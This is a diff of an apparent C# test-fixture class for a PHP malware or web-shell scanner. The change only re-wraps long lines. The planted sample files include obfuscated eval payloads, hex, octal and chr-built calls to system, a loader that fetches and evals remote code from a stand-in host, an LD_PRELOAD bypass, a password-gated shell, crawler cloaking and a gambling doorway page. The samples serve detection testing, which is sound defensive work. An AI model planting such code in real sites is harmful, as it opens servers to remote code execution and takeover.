@@ -36,19 +36,22 @@ internal static class PlantedFiles
         ("a/base64.php", "<?php eval(base64_decode('" + Blob + "'));"),
         ("a/gzinflate.php", "<?php eval(gzinflate(str_rot13(base64_decode('" + Blob + "'))));"),
         ("a/comments.php", "<?php eval/**/(/*x*/base64_decode/**/('" + Blob + "'));"),
-        ("a/hex.php", "<?php ${\"\\x47\\x4c\\x4f\\x42\\x41\\x4c\\x53\"}['q'] = \"\\x62\\x61\\x73\\x65\\x36\\x34\\x5f\\x64\\x65\\x63\\x6f\\x64\\x65\"; eval($q('" + Blob + "'));"),
+        ("a/hex.php", "<?php ${\"\\x47\\x4c\\x4f\\x42\\x41\\x4c\\x53\"}['q'] = "
+            + "\"\\x62\\x61\\x73\\x65\\x36\\x34\\x5f\\x64\\x65\\x63\\x6f\\x64\\x65\"; eval($q('" + Blob + "'));"),
         ("a/octal.php", "<?php $a = \"\\163\\171\\163\\164\\145\\155\\163\\171\\163\\164\\145\\155\"; eval($a($b));"),
         ("a/chr.php", "<?php $f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109).chr(32); $f($x);"),
         ("a/zero-and-o.php", "<?php $O00OO0 = urldecode('%6f'); $O0O000 = $O00OO0;"),
         ("a/underscores.php", "<?php $____ = 'x'; $_____ = $____; eval($____($_____));"),
-        ("a/jumps.php", "<?php goto aaaa; bbbb: echo 1; goto cccc; aaaa: $x=1; goto bbbb; cccc: $y=2; goto dddd; dddd: $z=3; goto eeee; eeee: $w=1; goto ffff; ffff: ;"),
+        ("a/jumps.php", "<?php goto aaaa; bbbb: echo 1; goto cccc; aaaa: $x=1; goto bbbb; cccc: $y=2; goto dddd; dddd: $z=3; goto eeee; "
+            + "eeee: $w=1; goto ffff; ffff: ;"),
         ("a/xor.php", "<?php $_ = ('!((%)(' ^ '~}}@~x'); $_('x'); $a = 'abcdefgh' ^ 'ijklmnop';"),
         ("a/long-block.php", "<?php $d = '" + new string('Q', 1500) + "'; eval($d);"),
         ("a/loader.php", "<?php $c = file_get_contents('http://bad.example/l.txt'); eval('?>'.$c);"),
         ("a/preload.php", "<?php putenv('LD_PRELOAD=/tmp/x.so'); mail('a','b','c','d');"),
         ("a/signature.php", "<?php $title = 'b374k 3.2';"),
         ("a/password.php", "<?php if (md5($_POST['p']) == 'e10adc39') { eval($_SESSION); $r = base64_decode($_POST['q']); }"),
-        ("a/cloak.php", "<?php if (preg_match('/googlebot|bingbot/i', $_SERVER['HTTP_USER_AGENT'])) { echo file_get_contents('http://bad.example/'); exit; }"),
+        ("a/cloak.php", "<?php if (preg_match('/googlebot|bingbot/i', $_SERVER['HTTP_USER_AGENT'])) { echo "
+            + "file_get_contents('http://bad.example/'); exit; }"),
         ("a/doorway.html", string.Concat(Enumerable.Repeat("<a href=x>slot gacor hari ini</a> situs judi terpercaya. ", 6))),
         ("a/b374k.php", "<?php // empty but for its name\n$x = 1;"),
         // Where no script belongs, or as what it is not.
